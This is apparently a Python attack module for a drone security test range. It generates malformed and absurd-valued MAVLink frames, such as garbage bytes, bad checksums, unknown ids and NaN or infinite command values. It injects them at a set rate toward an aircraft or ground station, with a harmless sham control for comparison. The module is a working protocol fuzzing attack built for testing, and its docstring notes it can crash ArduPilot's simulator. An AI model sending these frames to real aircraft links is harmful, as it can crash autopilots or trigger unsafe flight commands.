"""Hostile MAVLink: frames that are truncated, damaged or unknown, or valid ones with absurd counts and numbers.

They are the published "malicious input".
"""

from __future__ import annotations

import math
from collections.abc import Sequence
from dataclasses import dataclass
from hashlib import shake_128
from typing import Annotated, Final, Literal

from pydantic import BeforeValidator, Field

import skyrange.plugin as sky
from skyrange.codec.mavlink import Message, Packer
from skyrange.codec.mavlink import dialect as mav
from skyrange.contracts.links import Uniforms
from skyrange.contracts.params import items

Form = Literal["garbage", "truncated", "checksum", "length", "unknown", "mavlink1", "counts", "numbers"]
FORMS: Final[tuple[Form, ...]] = (
    "garbage", "truncated", "checksum", "length", "unknown", "mavlink1", "counts", "numbers"
)  # fmt: skip
Forms = Annotated[tuple[Form, ...], BeforeValidator(items, json_schema_input_type=list[str]), Field(min_length=1)]
"""Forms, one or more."""
_UNKNOWN_ID: Final = 0xFFFFF0
"""A message id that no public dialect uses."""
_OVERHEAD: Final = 12
"""Bytes of a MAVLink 2 frame beside its payload."""
_SHORTEST: Final = _OVERHEAD + 1
_LONGEST: Final = _OVERHEAD + 255
_ABSURD: Final = (math.nan, math.inf, -math.inf, 3e38, -3e38, 1e-40)
_COMMANDS: Final = (
    mav.MAV_CMD_CONDITION_YAW, mav.MAV_CMD_DO_SET_MODE, mav.MAV_CMD_NAV_TAKEOFF, mav.MAV_CMD_SET_MESSAGE_INTERVAL,
    mav.MAV_CMD_DO_SET_ROI, mav.MAV_CMD_DO_SET_MISSION_CURRENT, mav.MAV_CMD_REQUEST_MESSAGE, 0xFFFF,
)  # fmt: skip


@dataclass(slots=True)
class Draw:
    """Random choices for one frame, of one address of chance."""

    bits: bytes
    used: int = 0

    @classmethod
    def of(cls, uniforms: Uniforms) -> Draw:
        """The choices that four uniform random numbers stand for."""
        return cls(shake_128(repr(uniforms).encode()).digest(256))

    def below(self, most: int) -> int:
        """A whole number in 0…most-1; the bias is below most / 2³²."""
        self.used += 4
        return int.from_bytes(self.bits[self.used - 4 : self.used], "little") % most

    def pick(self, values: Sequence[float]) -> float:
        """One of the values."""
        return values[self.below(len(values))]

    def octets(self, count: int) -> bytes:
        """Random bytes."""
        return shake_128(self.bits + self.used.to_bytes(4, "little")).digest(count)


def _station_message(draw: Draw, target: int, *, absurd: bool) -> Message:
    """A message of an aircraft to its station."""
    if not absurd:
        return [
            mav.MAVLink_mission_current_message(0xFFFF, 0xFFFF),
            mav.MAVLink_mission_item_reached_message(0xFFFF),
            mav.MAVLink_mission_count_message(255, 190, 0xFFFF, 0),
            mav.MAVLink_mission_request_int_message(255, 190, 0xFFFF, 0),
            mav.MAVLink_param_value_message(b"\xff" * 16, 0.0, 255, 0xFFFF, 0xFFFF),
        ][draw.below(5)]
    a, b, c = (draw.pick(_ABSURD) for _ in range(3))
    return [
        mav.MAVLink_attitude_message(0xFFFFFFFF, a, b, c, a, b, c),
        mav.MAVLink_vfr_hud_message(a, b, -(2**15), 0xFFFF, c, a),
        mav.MAVLink_local_position_ned_message(0, a, b, c, a, b, c),
        mav.MAVLink_global_position_int_message(0, 2**31 - 1, -(2**31), -(2**31), 2**31 - 1, 0, 0, 0, 0xFFFF),
    ][draw.below(4)]


def _aircraft_message(draw: Draw, target: int, *, absurd: bool) -> Message:
    """A message of a station to an aircraft."""
    if not absurd:
        kind = draw.below(3)
        return [
            mav.MAVLink_mission_count_message(target, 1, 0xFFFF, kind),
            mav.MAVLink_mission_request_int_message(target, 1, 0xFFFF, kind),
            mav.MAVLink_mission_write_partial_list_message(target, 1, -(2**15), 2**15 - 1, kind),
            mav.MAVLink_mission_set_current_message(target, 1, 0xFFFF),
            mav.MAVLink_param_request_read_message(target, 1, b"", 2**15 - 1),
            mav.MAVLink_mission_count_message(target, 1, 0xFFFF, 77),
        ][draw.below(6)]
    a, b, c = (draw.pick(_ABSURD) for _ in range(3))
    return [
        mav.MAVLink_command_long_message(target, 1, int(draw.pick(_COMMANDS)), 255, a, b, c, a, b, c, a),
        mav.MAVLink_command_int_message(
            target, 1, 255, int(draw.pick(_COMMANDS)), 255, 255, a, b, c, a, 2**31 - 1, -(2**31), b
        ),
        mav.MAVLink_mission_item_int_message(target, 1, 0xFFFF, 255, 0xFFFF, 0, 255, a, b, c, a, -(2**31), 0, b, 0),
        mav.MAVLink_param_set_message(target, 1, b"WPNAV_SPEED", draw.pick(_ABSURD[:3]), 255),
        mav.MAVLink_set_position_target_local_ned_message(0, target, 1, 1, 0, a, b, c, a, b, c, a, b, c, a, b),
        mav.MAVLink_set_attitude_target_message(0, target, 1, 0, [a, b, c, a], a, b, c, a),
    ][draw.below(6)]


def draw_frame(forms: Sequence[Form], draw: Draw, packer: Packer, target: int, *, to_station: bool) -> bytes:
    """One frame of a form that is drawn. Its size depends on the addressee only where that is 0, unlike in a sham."""
    return hostile_frame(forms[draw.below(len(forms))], draw, packer, target, to_station=to_station)


def hostile_frame(form: Form, draw: Draw, packer: Packer, target: int, *, to_station: bool) -> bytes:
    """One frame of a form, towards a station or an aircraft."""
    if form == "garbage":
        return draw.octets(_SHORTEST + draw.below(_LONGEST - _SHORTEST))
    message = _station_message if to_station else _aircraft_message
    valid_frame = packer.pack(message(draw, target, absurd=form == "numbers"))  # 14 bytes or more: no message is empty
    if form == "truncated":
        return valid_frame[: max(_SHORTEST, draw.below(len(valid_frame)))]
    if form == "checksum":
        return valid_frame[:-2] + bytes([valid_frame[-2] ^ (1 + draw.below(255)), valid_frame[-1]])
    if form == "length":
        return valid_frame[:1] + bytes([(valid_frame[1] + 1 + draw.below(254)) % 256]) + valid_frame[2:]
    if form == "unknown":
        return valid_frame[:7] + _UNKNOWN_ID.to_bytes(3, "little") + valid_frame[10:]
    if form == "mavlink1":
        return (
            bytes([0xFE, valid_frame[1], valid_frame[4], valid_frame[5], valid_frame[6], valid_frame[7]])
            + valid_frame[10:]
            + draw.octets(4)
        )
    return valid_frame


def harmless_frame(size: int, packer: Packer) -> bytes:
    """A valid frame of `size` bytes, 13 to 267, that no autopilot or station acts on: ENCAPSULATED_DATA."""
    data = [0] * 253
    length = size - _OVERHEAD
    if length > 2:
        data[length - 3] = 1
        return packer.pack(mav.MAVLink_encapsulated_data_message(0, data))
    return packer.pack(mav.MAVLink_encapsulated_data_message(1 if length == 1 else 0x100, data))


@sky.attack(
    "mavlink.malformed",
    technique="T0814",
    persists="flight",
    effect="parsers reject and count hostile frames, or act on absurd values",
    knowledge="the protocol, and system ids",
    equipment="a computer with a fuzzer for MAVLink",
    budget="rate_hz frames of at most 267 bytes in a second",
    load="the sham: valid frames of the same sizes that nobody acts on",
    content="the form 'unknown' alone, which every receiver ignores",
    placement="the same frames on the link of another aircraft",
)
class HostileFrames(sky.Injection):
    """Sends malformed MAVLink frames, and valid ones with absurd counts and numbers.

    ArduPilot's simulator aborts on a floating point exception, which boards ignore, unless SIM_FLOAT_EXCEPT is 0; so
    the form `numbers` can end that program.
    """

    forms: Forms = sky.param(
        "Forms, one chosen by chance for each frame: garbage (random bytes), truncated, checksum (wrong, as by another "
        "CRC_EXTRA), length (other than the header's), unknown (message id), mavlink1 (a header of version 1 before a "
        "frame of version 2), counts (65535 items and the like), numbers (NaN, infinite or 3e38).",
        default=FORMS,
    )
    towards: Literal["aircraft", "station"] = sky.param("Receiver; station: as from the aircraft.", default="aircraft")
    rate_hz: sky.Number = sky.param("Frames in a second.", default=10.0, ge=0.1, le=1000)

    def prepare(self, context: sky.AttackContext) -> None:
        self.way = "fwd" if self.towards == "aircraft" else "rev"
        self.every_s = 1.0 / self.rate_hz

    def orders(self, now: sky.Time) -> list[bytes]:
        draw = Draw.of(self.chance.uniform4(f"{self.id}.malformed", sky.hash64(self.link), now))
        to_station = self.way == "rev"
        packer = sky.MavlinkPacker(self.target, sky.AUTOPILOT) if to_station else self.claimed.packer
        payload = draw_frame(self.forms, draw, packer, self.target, to_station=to_station)
        return [harmless_frame(len(payload), packer) if self.sham else payload]
